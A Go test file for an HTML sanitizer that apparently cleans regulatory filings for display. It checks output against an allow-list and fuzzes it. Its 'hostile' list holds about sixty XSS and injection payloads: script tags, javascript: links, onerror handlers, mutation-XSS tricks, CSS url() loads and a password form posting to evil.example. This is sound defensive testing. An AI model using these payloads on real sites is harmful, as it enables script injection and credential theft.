package reading_test

import (
	"net/url"
	"slices"
	"strings"
	"testing"
	"unicode"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"example.com/edgard/serve/reading"
)

// harmless parses what was made as browsers do, and reports whatever could run, send
// or fetch.
func harmless(t *testing.T, name, made string) {
	t.Helper()
	nodes, err := html.ParseFragment(strings.NewReader(made), &html.Node{Type: html.ElementNode, Data: "body", DataAtom: atom.Body})
	if err != nil {
		return // nested deeper than the parser goes; the fuzz target says what then
	}
	for _, n := range nodes {
		for d := range all(n) {
			for _, fault := range faultsOf(d) {
				t.Errorf("%s: %s", name, fault)
			}
		}
	}
}

func all(n *html.Node) func(func(*html.Node) bool) {
	return func(yield func(*html.Node) bool) {
		if !yield(n) {
			return
		}
		n.Descendants()(yield)
	}
}

// elements are all that may come out: nothing that runs, sends, frames or fetches but
// img.
var elements = strings.Fields(`p div span br hr h1 h2 h3 h4 h5 h6 center blockquote pre address section article b strong i em u s strike del ins sub sup
	small big tt code kbd samp var cite abbr dfn q mark nobr wbr font ul ol li dl dt dd dir menu table caption colgroup col thead tbody tfoot tr th td a img`)

func faultsOf(n *html.Node) (faults []string) {
	if n.Type == html.CommentNode || n.Type == html.DoctypeNode {
		return []string{"a comment: " + n.Data}
	}
	if n.Type != html.ElementNode {
		return nil
	}
	if n.Namespace != "" || !slices.Contains(elements, n.Data) {
		faults = append(faults, "an element "+n.Namespace+":"+n.Data)
	}
	for _, a := range n.Attr {
		if fault := faultOf(n.Data, a); fault != "" {
			faults = append(faults, fault+" "+a.Key+"="+a.Val)
		}
	}
	return faults
}

func faultOf(element string, a html.Attribute) string {
	switch a.Key {
	case "style":
		low := strings.ToLower(a.Val)
		for _, bad := range []string{"(", "@", "\\", "/*", "expression", "behavior", "moz-binding", "fixed", "<", "{"} {
			if strings.Contains(low, bad) {
				return "a style"
			}
		}
	case "href":
		u, err := url.Parse(a.Val)
		switch {
		case err != nil || element != "a":
			return "a link"
		case strings.HasPrefix(a.Val, "#"):
		case u.Scheme == "":
			return badPath(a.Val)
		case u.Scheme == "mailto", (u.Scheme == "http" || u.Scheme == "https") && u.Host != "":
		default:
			return "a link"
		}
	case "src":
		if element != "img" {
			return "a source"
		}
		return badPath(a.Val)
	case "target":
		if a.Val != "_blank" {
			return "a target"
		}
	case "rel":
	default:
		if strings.HasPrefix(a.Key, "on") || strings.Contains(a.Key, ":") || slices.Contains([]string{"action", "formaction", "background", "srcset", "data", "ping", "poster", "srcdoc", "usemap", "longdesc", "http-equiv"}, a.Key) {
			return "an attribute"
		}
	}
	return ""
}

// badPath says what is wrong with a path, when anything but this server's own could
// answer it.
func badPath(path string) string {
	if !strings.HasPrefix(path, "/") || strings.HasPrefix(path, "//") || strings.ContainsAny(path, "\\\t\r\n <>\"") {
		return "a path"
	}
	return ""
}

// sameWords wants the words that browsers show of a document to be those of what was
// made of it.
func sameWords(t *testing.T, name string, body []byte, made string) {
	t.Helper()
	before, err := html.Parse(strings.NewReader(toUTF8(body)))
	after, err2 := html.Parse(strings.NewReader(made))
	if err != nil || err2 != nil {
		return
	}
	want, got := wordsOf(before), wordsOf(after)
	if want != got {
		i := 0
		for i < min(len(want), len(got)) && want[i] == got[i] {
			i++
		}
		t.Errorf("%s: words differ at %d of %d:\nwant …%s\n got …%s", name, i, len(want), want[max(0, i-40):min(len(want), i+80)], got[max(0, i-40):min(len(got), i+80)])
	}
}

// wordsOf returns the letters and digits that a document shows.
func wordsOf(n *html.Node) string {
	var b strings.Builder
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		switch {
		case n.Type == html.TextNode:
			for _, r := range n.Data {
				if unicode.IsLetter(r) || unicode.IsDigit(r) {
					b.WriteRune(r)
				}
			}
		case n.Type == html.ElementNode && slices.Contains([]string{"script", "style", "title", "ix:header", "iframe", "noscript", "textarea", "xmp"}, n.Data):
			return
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(n)
	return b.String()
}

func toUTF8(body []byte) string { return strings.ToValidUTF8(string(body), "") }

// hostile is what somebody might put in a filing.
var hostile = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<img src=x onerror=alert(1)>`, `<img src="https://evil.example/pixel.gif">`,
	`<a href="javascript:alert(1)">x</a>`, `<a href=" java&#10;script:alert(1)">x</a>`, `<a href="data:text/html,<script>">x</a>`, `<a href="vbscript:x">x</a>`,
	`<a href="//evil.example/">x</a>`, `<a href="/\evil.example">x</a>`, "<a href=\"/\t/evil.example\">x</a>", `<a href="https:evil.example">x</a>`,
	`<form action=https://evil.example><input name=password><button>Log in</button></form>`, `<iframe src=https://evil.example></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`,
	`<object data=x.swf></object><embed src=x.swf><applet code=x>`, `<meta http-equiv=refresh content="0;url=https://evil.example">`, `<base href=https://evil.example/>`, `<link rel=stylesheet href=https://evil.example/x.css>`,
	`<style>@import url(https://evil.example/x.css); p { background: url(https://evil.example/) }</style>`,
	`<p style="background:url(https://evil.example/x.gif)">x</p>`, `<p style="width: expression(alert(1))">x</p>`, `<p style="behavior: url(x.htc); color: red">x</p>`, `<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>`,
	`<p style="color: red; background: u\72l(https://evil.example)">x</p>`, `<p style='font-family: "x; } @import url(//evil)'>x</p>`, `<p style="background-image:/**/url(//evil)">x</p>`, `<p style="margin: calc(1px)">x</p>`,
	`<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<textarea><img src=x onerror=alert(1)></textarea>`, `<xmp><script>alert(1)</script></xmp>`, `<title><script>alert(1)</script></title>`, `<plaintext><script>alert(1)</script>`,
	`<!-- --!><script>alert(1)</script> -->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`, `<body background=https://evil.example/x.gif onload=alert(1)>`, `<table background=https://evil.example/x.gif><tr><td background=x>`,
	`<img src=logo.jpg usemap=#m><map name=m><area href=javascript:alert(1)></map>`, `<img src="logo.jpg" srcset="https://evil.example/x 2x">`, `<video src=x poster=y><audio src=x><source src=x><track src=x>`, `<a href=x ping=https://evil.example>x</a>`, `<q cite=javascript:alert(1)>x</q>`, `<p id="x" style>x</p>`,
	`<ix:header><ix:hidden><script>alert(1)</script></ix:hidden></ix:header><ix:nonNumeric onclick=alert(1)>text</ix:nonNumeric>`, `<div <script>alert(1)</script>>`, `<p title='"><script>alert(1)</script>'>x</p>`, `<a name="x" href="#y&quot; onclick=alert(1)">x</a>`,
	`<select><template><script>alert(1)</script></template></select>`, `<portal src=x></portal><fencedframe src=x>`, `<img src="&#x2f;/evil.example/x.gif">`, `<a href="http://user:secret@evil.example/">x</a>`, "\x00<scr\x00ipt>alert(1)</script>", "<p>\xff\xfe\u202etxt.exe</p>",
}

func TestNothingHostileComesThrough(t *testing.T) {
	for _, text := range hostile {
		for _, text := range []string{text, "<p>before</p>" + text + "<p>after</p>", "<table><tr><td>" + text} {
			safe, _ := reading.HTML([]byte(text), pictures)
			harmless(t, text, string(safe))
			if low := strings.ToLower(string(safe)); strings.Contains(low, "<script") || strings.Contains(low, "onerror=") && !strings.Contains(low, "&lt;") {
				t.Errorf("%q made %q", text, safe)
			}
			set, _ := reading.Plain([]byte(text))
			harmless(t, text, string(set))
			set, _ = reading.Text(text)
			harmless(t, text, string(set))
		}
	}
}

func FuzzHTML(f *testing.F) {
	for _, text := range hostile {
		f.Add([]byte(text), "/filings/x/documents/1")
	}
	f.Add([]byte(`<a href="x">y</a><img src=z alt="a<b">`), `//evil.example/" onerror=`)
	f.Fuzz(func(t *testing.T, body []byte, to string) {
		safe, _ := reading.HTML(body, func(string) string { return to })
		harmless(t, "html", string(safe))
		again, _ := reading.HTML([]byte(safe), func(string) string { return to })
		harmless(t, "html twice", string(again))
	})
}

func FuzzText(f *testing.F) {
	f.Add("On May 3\nNominee\tNumber of\nVotes\nFOR\tWithheld\nA\t1\t2\n•\tone\n(a)\ttwo\n")
	f.Add("<script>\t<b>\n$\t5\t)\n")
	f.Fuzz(func(t *testing.T, text string) {
		set, cut := reading.Text(text)
		harmless(t, "text", string(set))
		if before, after := words(text), wordsOf(fragment(t, string(set))); !cut && before != after {
			t.Errorf("words of %q are %q, want %q", set, after, before)
		}
		typed, _ := reading.Plain([]byte(text))
		harmless(t, "plain", string(typed))
	})
}

func fragment(t *testing.T, made string) *html.Node {
	t.Helper()
	n, err := html.Parse(strings.NewReader(made))
	if err != nil {
		t.Fatal(err)
	}
	return n
}

func words(text string) string {
	return strings.Map(func(r rune) rune {
		if unicode.IsLetter(r) || unicode.IsDigit(r) {
			return r
		}
		return -1
	}, strings.ToValidUTF8(text, ""))
}
